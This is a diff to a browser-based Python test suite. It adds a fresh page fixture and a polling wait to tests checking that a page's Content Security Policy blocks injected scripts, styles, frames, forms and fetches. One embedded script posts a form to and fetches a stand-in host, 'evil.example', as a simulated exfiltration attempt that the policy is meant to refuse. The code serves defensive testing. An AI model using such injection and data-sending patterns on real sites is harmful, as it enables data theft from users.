@@ -130,6 +130,14 @@ def watch(browser):
     watching.context.close()
 
 
+@pytest.fixture
+def fresh(browser):
+    """A page for one test that may leave it in any state."""
+    watching = Watch(browser)
+    yield watching
+    watching.context.close()
+
+
 def faults(watch, seen, look, size):
     """Everything wrong about the attacks, looked at `size` at a time."""
     found = []
@@ -179,12 +187,12 @@ def test_a_corpus_as_pages(watch, texts):
     assert faults(watch, together(texts(), 12), watch.pages, 40) == []
 
 
-def test_the_policy_of_a_page_is_in_force(watch):
+def test_the_policy_of_a_page_is_in_force(fresh):
     """Whatever got into a page of ours would not run, load, submit or restyle: a second wall, not the first."""
-    watch.body = check(Draft(text=f"Growth was {TOKEN}."), EVIDENCE).render("html", standalone=True)
-    watch.page.goto(PAGE)
-    watch.did.clear()
-    refused = watch.page.evaluate("""async () => {
+    fresh.body = check(Draft(text=f"Growth was {TOKEN}."), EVIDENCE).render("html", standalone=True)
+    fresh.page.goto(PAGE)
+    fresh.did.clear()
+    refused = fresh.page.evaluate("""async () => {
       const refused = [];
       document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
       const put = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
@@ -199,14 +207,16 @@ def test_the_policy_of_a_page_is_in_force(watch):
       put("form", { action: "https://evil.example/", method: "post" });
       document.forms[0].submit();
       fetch("https://evil.example/").catch(() => {});
-      await new Promise((done) => setTimeout(done, 100));
+      for (let waited = 0; waited < 5000 && new Set(refused).size < 9; waited += 50) {
+        await new Promise((done) => setTimeout(done, 50));
+      }
       return window.__ran === undefined ? refused : ["ran"];
     }""")
     assert {*refused} >= {
         "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr",
         "img-src", "frame-src", "base-uri", "form-action", "connect-src",
     }  # fmt: skip
-    assert not [did for did in watch.did if did.startswith("request")]
+    assert not [did for did in fresh.did if did.startswith("request")]
 
 
 MANY = 100_000
@@ -309,7 +319,7 @@ def test_the_probe_sees_each_hole(watch):
         "a page that goes on in it": "is not closed",
     }.items(),
 )
-def test_what_a_hole_does_is_seen(watch, hole, fault):
+def test_what_a_hole_does_is_seen(fresh, hole, fault):
     """Without a policy every hole acts, and acting is seen, whatever the markup looks like."""
-    found = faults(watch, [rendered(hole, HOLES[hole]), rendered("next", MARK)], watch.fragments, 2)
+    found = faults(fresh, [rendered(hole, HOLES[hole]), rendered("next", MARK)], fresh.fragments, 2)
     assert any(fault in line for line in found), found
